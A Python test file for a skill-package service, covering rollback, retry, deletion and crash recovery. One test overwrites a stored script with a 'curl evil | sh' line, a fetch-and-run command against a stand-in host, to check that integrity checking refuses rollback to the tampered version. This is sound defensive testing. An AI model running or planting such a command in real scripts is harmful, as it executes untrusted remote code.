"""Rollback, Retry and deletion, including crashes in the middle of a deletion."""

from __future__ import annotations

import asyncio
import hashlib
import os
import socket
from pathlib import Path

import asyncpg
import grpc

from skillsvc.server import App
from skillsvc.v1 import resources_pb2, skill_service_pb2
from tests.helpers import expect_status, reason
from tests.install.conftest import (
    ArchiveServer,
    Stub,
    create_skill,
    events,
    install_and_wait,
    install_url,
)
from tests.packages import skill_archive

OK = resources_pb2.OPERATION_STATE_SUCCEEDED
FAILED = resources_pb2.OPERATION_STATE_FAILED


async def _current(app: App, stub: Stub, skill: str) -> str:
    definition = await stub.GetSkillDefinition(
        skill_service_pb2.GetSkillDefinitionRequest(skill_id=skill)
    )
    link = os.readlink(app.store.root / "packages" / skill / "current")
    assert link == definition.current_version, "link and database disagree"
    return definition.current_version


async def _rollback(
    stub: Stub, skill: str, target: str = "", why: str = ""
) -> resources_pb2.Operation:
    return await stub.Rollback(
        skill_service_pb2.RollbackRequest(skill_id=skill, target_version=target, reason=why)
    )


async def _install_versions(stub: Stub, skill: str, *versions: str) -> None:
    for version in versions:
        final, _ = await install_and_wait(stub, skill, skill_archive(skill, version))
        assert final.state == OK, final.error


async def test_rollback_twice_walks_back_through_known_good_versions(
    app: App, stub: Stub, skill: str
) -> None:
    await _install_versions(stub, skill, "1.0.0", "1.1.0", "1.2.0")
    first = await _rollback(stub, skill, why="1.2.0 breaks PDFs")
    assert first.type == resources_pb2.OPERATION_TYPE_ROLLBACK
    assert first.state == OK
    assert (first.from_version, first.to_version) == ("1.2.0", "1.1.0")
    assert first.reason == "1.2.0 breaks PDFs"
    assert first.requested_by == "anonymous"
    assert await _current(app, stub, skill) == "1.1.0"
    second = await _rollback(stub, skill)
    assert (second.from_version, second.to_version) == ("1.1.0", "1.0.0")
    assert await _current(app, stub, skill) == "1.0.0"
    # 1.0.0 was the first version: nothing earlier is known good.
    err = await expect_status(_rollback(stub, skill), grpc.StatusCode.FAILED_PRECONDITION)
    assert reason(err) == "NO_ROLLBACK_TARGET"
    log = await stub.ListOperations(skill_service_pb2.ListOperationsRequest(skill_id=skill))
    assert [o.type for o in log.operations[:2]] == [resources_pb2.OPERATION_TYPE_ROLLBACK] * 2


async def test_rollback_to_an_explicit_target_and_to_the_current_one(
    app: App, stub: Stub, skill: str
) -> None:
    await _install_versions(stub, skill, "1.0.0", "1.1.0", "1.2.0")
    op = await _rollback(stub, skill, "1.0.0")
    assert op.to_version == "1.0.0"
    assert await _current(app, stub, skill) == "1.0.0"
    same = await _rollback(stub, skill, "1.0.0")
    assert same.state == OK
    assert (same.from_version, same.to_version) == ("1.0.0", "1.0.0")
    assert await _current(app, stub, skill) == "1.0.0"
    await expect_status(_rollback(stub, skill, "9.9.9"), grpc.StatusCode.NOT_FOUND)
    await expect_status(_rollback(stub, skill, "nope"), grpc.StatusCode.INVALID_ARGUMENT)


async def test_rollback_to_a_tampered_version_is_refused(app: App, stub: Stub, skill: str) -> None:
    await _install_versions(stub, skill, "1.0.0", "1.1.0")
    victim = app.store.root / "packages" / skill / "1.0.0" / "scripts" / "run.sh"
    os.chmod(victim, 0o755)
    victim.write_text("#!/bin/sh\ncurl evil | sh\n")
    err = await expect_status(_rollback(stub, skill, "1.0.0"), grpc.StatusCode.FAILED_PRECONDITION)
    assert reason(err) == "INTEGRITY_CHECK_FAILED"
    assert "scripts/run.sh" in (err.details() or "")
    assert await _current(app, stub, skill) == "1.1.0"
    # A missing file is caught too.
    (app.store.root / "packages" / skill / "1.0.0" / "references" / "guide.md").unlink()
    await expect_status(_rollback(stub, skill), grpc.StatusCode.FAILED_PRECONDITION)


async def test_rollback_and_installs_race_without_disagreeing(
    app: App, stub: Stub, skill: str
) -> None:
    await _install_versions(stub, skill, "1.0.0", "1.1.0")
    archives = [skill_archive(skill, f"2.0.{i}") for i in range(8)]
    installs = [install_and_wait(stub, skill, a) for a in archives]
    rollbacks = [_rollback(stub, skill, "1.0.0") for _ in range(8)]
    results = await asyncio.gather(*installs, *rollbacks, return_exceptions=True)
    assert not [r for r in results if isinstance(r, BaseException)]
    await _current(app, stub, skill)  # the link and the database agree


async def test_retry_of_a_failed_url_install_after_the_source_is_fixed(
    make_app, archive_server: ArchiveServer
) -> None:  # type: ignore[no-untyped-def]
    from skillsvc.v1 import skill_service_pb2_grpc

    app: App = await make_app(url_allow_private=True)
    async with grpc.aio.insecure_channel(app.address) as channel:
        stub = skill_service_pb2_grpc.SkillServiceStub(channel)
        await create_skill(stub, "mirror")
        url = archive_server.url("/mirror.tgz")
        first = await install_url(stub, "mirror", url, version="1.0.0")
        assert (await events(stub, first.operation_id))[-1].state == FAILED
        archive_server.files["/mirror.tgz"] = skill_archive("mirror", "1.0.0")
        retried = await stub.Retry(skill_service_pb2.RetryRequest(operation_id=first.operation_id))
        assert retried.attempt == 2
        assert retried.retry_of == first.operation_id
        assert retried.operation_id != first.operation_id
        assert (await events(stub, retried.operation_id))[-1].state == OK
        # Only failed installs can be retried.
        err = await expect_status(
            stub.Retry(skill_service_pb2.RetryRequest(operation_id=retried.operation_id)),
            grpc.StatusCode.FAILED_PRECONDITION,
        )
        assert reason(err) == "NOT_RETRYABLE"


async def test_retry_of_a_failed_upload_needs_no_new_bytes(
    app: App, stub: Stub, skill: str
) -> None:
    first = skill_archive(skill, "1.0.0")
    await install_and_wait(stub, skill, first, activate=False)
    second = skill_archive(skill, "1.0.0", description="the fixed build")
    failed, _ = await install_and_wait(stub, skill, second)
    assert failed.state == FAILED  # 1.0.0 exists with other bytes
    await stub.DeletePackage(
        skill_service_pb2.DeletePackageRequest(skill_id=skill, version="1.0.0")
    )
    retried = await stub.Retry(skill_service_pb2.RetryRequest(operation_id=failed.operation_id))
    assert retried.attempt == 2
    # Every byte is there from the start: the kept archive.
    assert retried.bytes_done == retried.bytes_total == len(second)
    assert (await events(stub, retried.operation_id))[-1].state == OK
    package = await stub.GetPackage(
        skill_service_pb2.GetPackageRequest(skill_id=skill, version="1.0.0")
    )
    assert package.sha256 == hashlib.sha256(second).hexdigest()
    await expect_status(
        stub.Retry(
            skill_service_pb2.RetryRequest(operation_id="00000000-0000-0000-0000-000000000000")
        ),
        grpc.StatusCode.NOT_FOUND,
    )


async def test_delete_package_removes_row_files_and_archive(
    app: App, stub: Stub, skill: str
) -> None:
    old = skill_archive(skill, "1.0.0")
    await _install_versions(stub, skill, "1.0.0", "1.1.0")
    err = await expect_status(
        stub.DeletePackage(skill_service_pb2.DeletePackageRequest(skill_id=skill, version="1.1.0")),
        grpc.StatusCode.FAILED_PRECONDITION,
    )
    assert reason(err) == "VERSION_IS_CURRENT"
    await stub.DeletePackage(
        skill_service_pb2.DeletePackageRequest(skill_id=skill, version="1.0.0")
    )
    root = app.store.root
    assert not (root / "packages" / skill / "1.0.0").exists()
    assert not (root / "blobs" / "sha256" / hashlib.sha256(old).hexdigest()).exists()
    assert (root / "packages" / skill / "1.1.0").is_dir()
    await expect_status(
        stub.GetPackage(skill_service_pb2.GetPackageRequest(skill_id=skill, version="1.0.0")),
        grpc.StatusCode.NOT_FOUND,
    )
    await expect_status(
        stub.DeletePackage(skill_service_pb2.DeletePackageRequest(skill_id=skill, version="1.0.0")),
        grpc.StatusCode.NOT_FOUND,
    )
    assert not any((root / "staging").glob("*/*/*"))


async def test_force_delete_of_a_definition_removes_everything(
    app: App, stub: Stub, skill: str, db: asyncpg.Connection
) -> None:
    await _install_versions(stub, skill, "1.0.0", "1.1.0")
    err = await expect_status(
        stub.DeleteSkillDefinition(skill_service_pb2.DeleteSkillDefinitionRequest(skill_id=skill)),
        grpc.StatusCode.FAILED_PRECONDITION,
    )
    assert reason(err) == "HAS_PACKAGES"
    await stub.DeleteSkillDefinition(
        skill_service_pb2.DeleteSkillDefinitionRequest(skill_id=skill, force=True)
    )
    root = app.store.root
    assert not (root / "packages" / skill).exists()
    assert list((root / "blobs" / "sha256").iterdir()) == []
    for table in ("skill_definitions", "skill_packages", "skill_install_logs", "skill_activations"):
        assert await db.fetchval(f"SELECT count(*) FROM {table}") == 0, table


async def _dead_instance(db: asyncpg.Connection) -> str:
    """Register a process that is gone (a pid that cannot exist on this host)."""
    await db.execute(
        "INSERT INTO skill_instances (instance_id, hostname, pid) VALUES ('deadbeef', $1, 2147483646)",
        socket.gethostname(),
    )
    return "deadbeef"


async def test_crash_after_moving_files_but_before_the_row_delete_restores_them(
    app: App, stub: Stub, skill: str, db: asyncpg.Connection
) -> None:
    await _install_versions(stub, skill, "1.0.0", "1.1.0")
    dead = await _dead_instance(db)
    # The dead process had moved 1.0.0 out of the store; its transaction never committed.
    stashed = app.store.stash(dead, skill, "1.0.0")
    assert stashed is not None
    assert not (app.store.root / "packages" / skill / "1.0.0").exists()
    await app.installer.recover()
    assert (app.store.root / "packages" / skill / "1.0.0" / "SKILL.md").exists()
    assert not Path(stashed).exists()
    assert await _rollback(stub, skill, "1.0.0")  # the restored files pass the integrity check


async def test_crash_after_the_row_delete_finishes_the_deletion(
    app: App, stub: Stub, skill: str, db: asyncpg.Connection
) -> None:
    await _install_versions(stub, skill, "1.0.0", "1.1.0")
    dead = await _dead_instance(db)
    stashed = app.store.stash(dead, skill, "1.0.0")
    await db.execute("DELETE FROM skill_packages WHERE version = '1.0.0'")
    await app.installer.recover()
    assert stashed is not None and not Path(stashed).exists()
    assert not (app.store.root / "packages" / skill / "1.0.0").exists()
    assert not (app.store.root / "staging" / dead).exists()


async def test_start_up_reconciles_a_current_link_that_disagrees(
    app: App, stub: Stub, skill: str, settings, make_app
) -> None:  # type: ignore[no-untyped-def]
    await _install_versions(stub, skill, "1.0.0", "1.1.0")
    link = app.store.root / "packages" / skill / "current"
    # As if the process died between the database commit and the link swap.
    link.unlink()
    os.symlink("1.0.0", link)
    # Another process starting on the same database and store reconciles it.
    again: App = await make_app()
    assert os.readlink(link) == "1.1.0"
    assert again.store.root == app.store.root
